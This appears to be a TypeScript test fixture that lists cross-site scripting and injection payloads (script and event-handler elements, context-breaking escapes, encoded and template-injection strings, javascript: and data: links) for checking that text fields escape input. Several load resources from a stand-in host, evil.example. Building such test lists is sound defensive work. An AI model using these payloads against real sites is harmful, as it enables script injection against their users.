// Texts that try to become script, markup or a link. Each calls x() or opens a dialog if it ever runs.

const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onpointerenter',
]

/** An element that runs something by itself, for each way of doing so. */
const ELEMENTS = [
  '<script>x()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src=data:,x()></script>',
  '<scr<script>ipt>x()</script>',
  '<script\n>x()</script\n>',
  '<script type=module>x()</script>',
  '<svg><script>x()</script></svg>',
  '<svg><script href=data:,x() />',
  '<svg/onload=x()>',
  '<svg><animate onbegin=x() attributeName=x>',
  '<svg><a xlink:href=javascript:x()><text y=9>链接</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=x()>#a"/>',
  '<math><mi xlink:href="javascript:x()">点</mi></math>',
  '<img src=x onerror=x()>',
  '<img src=`x` onerror=x()>',
  '<img/src=x/onerror=x()//',
  '<image href=x onerror=x()>',
  '<video><source onerror=x()></video>',
  '<audio src=x onerror=x()>',
  '<iframe src=javascript:x()></iframe>',
  '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
  '<object data=javascript:x()></object>',
  '<embed src=javascript:x()>',
  '<details open ontoggle=x()>',
  '<body onload=x()>',
  '<input autofocus onfocus=x()>',
  '<select autofocus onfocus=x()>',
  '<marquee onstart=x()>',
  '<meta http-equiv=refresh content="0;url=javascript:x()">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=data:text/html,x>',
  '<style>*{background:url(//evil.example)}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<form action=//evil.example><button>提交</button></form>',
  '<button formaction=javascript:x()>点</button>',
  '<template><script>x()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=x()>">',
  '<portal src=javascript:x()>',
  '<isindex action=javascript:x()>',
  '<xss style="animation-name:x" onanimationend=x()>',
]

/** A way out of wherever the text may have been put. */
const ESCAPES = [
  '"><script>x()</script>',
  "'><script>x()</script>",
  '</title><script>x()</script>',
  '</textarea><script>x()</script>',
  '</style><script>x()</script>',
  '</script><script>x()</script>',
  '</ScRiPt ><img src=x onerror=x()>',
  '<!--<script>',
  '--><script>x()</script>',
  '--!><script>x()</script>',
  ']]><script>x()</script>',
  '<![CDATA[<script>x()</script>]]>',
  '<?xml version="1.0"?><x onload=x()>',
  '\\"><script>x()</script>',
  "\\');x();//",
  "';x();//",
  '";x();//',
  '`;x();//',
  `$${'{x()}'}`,
  '{{x()}}',
  '#{x()}',
  '<%= x() %>',
  '*/x()/*',
  '\\u003cscript\\u003ex()\\u003c/script\\u003e',
  '\\x3cscript\\x3ex()\\x3c/script\\x3e',
  '&lt;script&gt;x()&lt;/script&gt;',
  '&#60;script&#62;x()&#60;/script&#62;',
  '%3Cscript%3Ex()%3C/script%3E',
  '%253Cscript%253Ex()%253C/script%253E',
  '＜script＞x()＜/script＞',
  '<ſcript>x()</ſcript>',
  '<script>x()<!-- ',
  '{"__html":"<img src=x onerror=x()>"}',
  '$L1',
  '$@1',
  '["$","script",null,{"children":"x()"}]',
  '0:{"P":null}\n1:I["x"]',
  'self.__next_f.push([1,"x"])',
]

/** Addresses that run something when followed. */
const LINKS = [
  'javascript:x()',
  'JaVaScRiPt:x()',
  'java\tscript:x()',
  ' javascript:x()',
  'javascript://evil.example/%0Ax()',
  'vbscript:x()',
  'data:text/html,<script>x()</script>',
  'data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
  '[点这里](javascript:x())',
  '![图](x "onerror=x()")',
  '<a href=javascript:x()>点</a>',
  '<a href="//evil.example" target=_blank>点</a>',
]

const ATTRIBUTES = HANDLERS.flatMap((name) => [`" ${name}="x()`, `' autofocus ${name}='x()`])

export const PAYLOADS = [...ELEMENTS, ...ESCAPES, ...LINKS, ...ATTRIBUTES]

/** Two texts that hold them all, one on a line, each short enough for a field of running text. */
export const HALVES = [PAYLOADS.slice(0, PAYLOADS.length / 2), PAYLOADS.slice(PAYLOADS.length / 2)].map(
  (half) => half.join('\n'),
)

/** Those that fit into a field of one line. */
export const shortPayloads = (longest: number) =>
  PAYLOADS.filter((payload) => payload.length <= longest && !payload.includes('\n'))
